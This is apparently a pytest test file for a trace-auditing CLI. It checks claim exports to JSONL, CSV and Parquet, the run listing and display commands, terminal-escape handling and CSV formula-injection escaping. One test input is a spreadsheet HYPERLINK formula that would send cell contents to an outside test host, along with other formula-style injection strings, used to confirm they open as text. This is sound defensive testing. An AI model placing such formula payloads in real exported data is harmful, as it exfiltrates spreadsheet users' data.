"""``auditor export`` (JSON Lines, CSV, Parquet: each read back and compared), ``runs --json`` and
``auditor show`` on a stored run."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from auditor.cli import cli
from auditor.policy import load_policy
from auditor.results import AuditResult, claim_rows, from_formula_safe, write_rows
from auditor.run import audit
from auditor.store import export_run
from tests.conftest import FIXTURES

INPUTS = sorted(FIXTURES.glob("*/openinference.otlp.jsonl"))


@pytest.fixture(scope="module")
def stored(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, AuditResult]:
    db = f"sqlite:///{tmp_path_factory.mktemp('export') / 'runs.db'}"
    return db, audit(INPUTS, policy=load_policy("default"), db_url=db)


def invoke(*args: str, columns: int = 80) -> tuple[int, str, str]:
    result = CliRunner(env={"COLUMNS": str(columns)}).invoke(cli, list(args))
    return result.exit_code, result.stdout, result.stderr


def expected(result: AuditResult) -> list[dict[str, Any]]:
    return [row.model_dump(mode="json") for row in claim_rows(result)]


def test_rows_are_one_per_claim_with_its_answer_and_one_per_claimless_answer(
    stored: tuple[str, AuditResult],
) -> None:
    _, result = stored
    rows = expected(result)
    assert len(rows) == sum(max(1, len(a.claims or [])) for a in result.answers)
    assert {r["answer_id"] for r in rows} == {a.answer_id for a in result.answers}
    for answer in result.answers:
        mine = [r for r in rows if r["answer_id"] == answer.answer_id]
        classes = {e.evidence_id: e.source_class for e in answer.evidence}
        for row, claim in zip(mine, answer.claims or [], strict=False):
            assert row["claim"] == claim.text == answer.text[row["claim_start"] : row["claim_end"]]
            assert row["verdict"] == claim.verdict and row["question"] == answer.question
            assert row["quotes"] == [c.quote for c in claim.citations]
            assert row["evidence_ids"] == [c.evidence_id for c in claim.citations]
            assert set(row["source_classes"]) == {classes[c.evidence_id] for c in claim.citations}
    supported = [r for r in rows if r["verdict"] == "supported"]
    assert supported and all(r["quotes"] and r["source_classes"] for r in supported)


def test_jsonl_export_reads_back_equal(stored: tuple[str, AuditResult], tmp_path: Path) -> None:
    db, result = stored
    out = tmp_path / "claims.jsonl"
    code, _, err = invoke("export", result.run.id[:8], "--format", "jsonl", "-o", str(out), "--db", db)
    assert code == 0, err
    back = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert back == expected(result)
    assert f"Wrote {len(back)} row(s)" in err


def test_jsonl_to_stdout_is_the_default(stored: tuple[str, AuditResult]) -> None:
    db, result = stored
    code, out, _ = invoke("export", result.run.id, "--db", db)
    assert code == 0
    assert [json.loads(line) for line in out.splitlines()] == expected(result)


def _from_csv(cell: str, name: str, kind: str) -> Any:
    if name in ("quotes", "evidence_ids", "source_classes", "inadmissible_support", "markers"):
        return json.loads(cell)
    if cell == "":
        return None
    if kind == "bool":
        return {"true": True, "false": False}[cell]
    if kind == "int":
        return int(cell)
    if kind == "float":
        return float(cell)
    return from_formula_safe(cell)


def test_csv_export_reads_back_equal(stored: tuple[str, AuditResult], tmp_path: Path) -> None:
    db, result = stored
    out = tmp_path / "claims.csv"
    code, _, err = invoke("export", result.run.id, "--format", "csv", "-o", str(out), "--db", db)
    assert code == 0, err
    want = expected(result)
    kinds = {
        "refusal": "bool", "answer_grounded": "bool", "screened": "bool", "misattributed": "bool",
        "conflict": "bool", "answer_groundedness": "float", "claim_index": "int", "claim_start": "int",
        "claim_end": "int",
    }  # fmt: skip
    with out.open(encoding="utf-8", newline="") as stream:
        reader = csv.DictReader(stream)
        assert reader.fieldnames == list(want[0])
        back = [{k: _from_csv(v, k, kinds.get(k, "str")) for k, v in row.items()} for row in reader]
    # CSV cannot tell an empty string from null: compare with empty strings read as null.
    assert back == [{k: (None if v == "" else v) for k, v in row.items()} for row in want]


def test_parquet_export_reads_back_equal_with_typed_columns(
    stored: tuple[str, AuditResult], tmp_path: Path
) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    db, result = stored
    out = tmp_path / "claims.parquet"
    code, _, err = invoke("export", result.run.id, "--format", "parquet", "-o", str(out), "--db", db)
    assert code == 0, err
    table = pq.read_table(out)
    assert table.to_pylist() == expected(result)
    assert table.schema.field("quotes").type == pa.list_(pa.string())
    assert table.schema.field("claim_start").type == pa.int64()
    assert table.schema.field("conflict").type == pa.bool_()


def test_parquet_needs_a_file_and_pyarrow(
    stored: tuple[str, AuditResult], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    db, result = stored
    code, _, err = invoke("export", result.run.id, "--format", "parquet", "--db", db)
    assert code == 2 and "name it with -o FILE" in err
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # as if the parquet extra were not installed
    code, _, err = invoke(
        "export", result.run.id, "--format", "parquet", "-o", str(tmp_path / "x.parquet"), "--db", db
    )
    assert code == 2 and "pip install 'trace-auditor[parquet]'" in err and "Traceback" not in err


def test_export_of_an_unknown_run_is_one_line(stored: tuple[str, AuditResult]) -> None:
    db, _ = stored
    code, out, err = invoke("export", "nosuchrun", "--db", db)
    assert code == 2 and out == ""
    assert "no run with an id starting 'nosuchrun'" in err and len(err.strip().splitlines()) == 1


def test_export_run_to_a_stream(stored: tuple[str, AuditResult]) -> None:
    db, result = stored
    stream = io.StringIO()
    count = export_run(result.run.id, stream, "jsonl", db)
    assert count == len(expected(result)) == len(stream.getvalue().splitlines())


def test_runs_json_lists_full_ids_and_headline_figures(stored: tuple[str, AuditResult]) -> None:
    db, result = stored
    code, out, _ = invoke("runs", "--json", "--db", db)
    assert code == 0
    (row,) = json.loads(out)
    summary = result.summary
    assert row["id"] == result.run.id and row["status"] == "finished"
    assert row["answers_saved"] == len(result.answers)
    assert row["groundedness_rate"] == summary["groundedness_rate"]["value"]
    assert row["judged_claims"] == summary["groundedness_rate"]["denominator"]
    assert row["policy"]["sha256"] == result.run.policy.sha256 if result.run.policy else False


def test_runs_at_80_columns_keeps_ids_and_status_whole(stored: tuple[str, AuditResult]) -> None:
    db, result = stored
    code, out, _ = invoke("runs", "--db", db, columns=80)
    assert code == 0
    assert result.run.id in out and "finished" in out and "…" not in out
    assert max(len(line) for line in out.splitlines()) <= 80
    _, wide, _ = invoke("runs", "--db", db, columns=200)
    assert result.run.id in wide and "finished" in wide and "…" not in wide


def test_show_lists_answers_with_problems_and_one_answer_in_full(stored: tuple[str, AuditResult]) -> None:
    db, result = stored
    code, out, _ = invoke("show", result.run.id[:10], "--db", db, columns=200)
    assert code == 0
    assert f"run {result.run.id}" in out and "groundedness rate:" in out
    bad = [a for a in result.answers if a.grounded is False]
    assert bad and all(f"answer {a.answer_id}" in out for a in bad)
    good = [
        a
        for a in result.answers
        if a.grounded and not any(c.verdict != "supported" for c in a.claims or [] if not c.screened)
    ]
    assert not any(f"answer {a.answer_id} " in out for a in good)
    one = bad[0]
    code, out, _ = invoke("show", result.run.id, "--answer", one.answer_id, "--db", db, columns=200)
    assert code == 0
    assert f"answer {one.answer_id}" in out and "Evidence (" in out and "summary" not in out
    for item in one.evidence:
        assert item.evidence_id in out


def test_show_unknown_answer_is_one_line(stored: tuple[str, AuditResult]) -> None:
    db, result = stored
    code, _, err = invoke("show", result.run.id, "--answer", "nope", "--db", db)
    assert code == 2 and "no answer with an id starting 'nope'" in err


def test_show_and_export_of_an_interrupted_run(tmp_path: Path) -> None:
    import signal

    from auditor.run import Progress

    def stop(progress: Progress) -> None:
        if progress.answers_done == 3:
            signal.raise_signal(signal.SIGINT)

    db = f"sqlite:///{tmp_path / 'runs.db'}"
    with pytest.raises(KeyboardInterrupt):
        audit(INPUTS, db_url=db, on_progress=stop)
    _, out, _ = invoke("runs", "--json", "--db", db)
    (row,) = json.loads(out)
    assert row["status"] == "interrupted"
    code, out, _ = invoke("show", row["id"], "--db", db, columns=200)
    assert code == 0 and f"{row['answers_saved']} answer(s) saved and no summary" in out
    code, out, _ = invoke("export", row["id"], "--db", db)
    assert code == 0 and {json.loads(line)["answer_id"] for line in out.splitlines()}
    assert len({json.loads(line)["answer_id"] for line in out.splitlines()}) == row["answers_saved"]


def test_export_to_stdout_never_drives_the_terminal_and_keeps_the_data(tmp_path: Path) -> None:
    from tests.test_console_safety import EVIL, RAW, hostile_trace

    db = f"sqlite:///{tmp_path / 'evil.db'}"
    result = audit([hostile_trace(tmp_path)], db_url=db)
    code, out, _ = invoke("export", result.run.id, "--db", db)
    assert code == 0 and RAW.search(out) is None
    back = [json.loads(line) for line in out.splitlines()]
    assert back == expected(result) and any(EVIL in row["answer"] for row in back)
    file = tmp_path / "evil.jsonl"
    assert invoke("export", result.run.id, "-o", str(file), "--db", db)[0] == 0
    assert [json.loads(line) for line in file.read_text(encoding="utf-8").splitlines()] == back  # exact


def test_csv_shows_control_characters_even_in_a_file(tmp_path: Path) -> None:
    """CSV has no escapes and ends up in terminals (``cat``, ``column``) and spreadsheets: a control
    sequence in trace text is written visible, as the console shows it; list cells are JSON, exact."""
    from tests.test_console_safety import EVIL, RAW, VISIBLE, hostile_trace

    db = f"sqlite:///{tmp_path / 'evil.db'}"
    result = audit([hostile_trace(tmp_path)], db_url=db)
    file = tmp_path / "evil.csv"
    assert invoke("export", result.run.id, "--format", "csv", "-o", str(file), "--db", db)[0] == 0
    written = file.read_text(encoding="utf-8")
    assert RAW.search(written.replace("\r\n", "\n")) is None
    with file.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert rows and all(VISIBLE in row["answer"] and VISIBLE in row["question"] for row in rows)
    assert [json.loads(row["quotes"]) for row in rows] == [row["quotes"] for row in expected(result)]
    assert EVIL in result.answers[0].text  # the stored text itself is unchanged


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x.test/?"&A1,"Refund")', "+1 555 0100", "-2+3", "@SUM(A1:A9)", "\tlead", "'quoted"],
)
def test_a_csv_cell_a_spreadsheet_would_run_opens_as_text(stored: tuple[str, AuditResult], text: str) -> None:
    # Answers and tool results are written by a model or a stranger: a spreadsheet must not run them.
    _, result = stored
    row = next(iter(claim_rows(result))).model_copy(update={"claim": text, "question": text})
    stream = io.StringIO()
    write_rows([row], stream, "csv")
    cells = next(csv.DictReader(io.StringIO(stream.getvalue())))
    assert cells["claim"] == cells["question"] == "'" + text
    assert from_formula_safe(cells["claim"]) == text
